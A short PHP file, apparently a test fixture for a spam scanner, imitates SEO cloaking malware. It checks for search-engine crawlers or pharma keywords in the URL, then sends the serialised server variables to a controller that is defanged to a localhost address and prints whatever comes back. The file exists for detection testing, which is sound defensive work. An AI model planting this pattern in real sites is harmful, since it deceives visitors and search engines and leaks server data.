<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// SEO spam cloaking: crawlers and pharma searches get content from a controller that
// receives every request.
if (preg_match('/googlebot|bingbot|slurp/i', $_SERVER['HTTP_USER_AGENT']) || preg_match('/viagra|cialis/i', $_SERVER['REQUEST_URI'])) {
    $data = array('server' => base64_encode(serialize($_SERVER)));
    $opts = array('http' => array('method' => 'POST', 'content' => http_build_query($data)));
    echo @file_get_contents('http://127.0.0.1:9/feed', false, stream_context_create($opts));
}
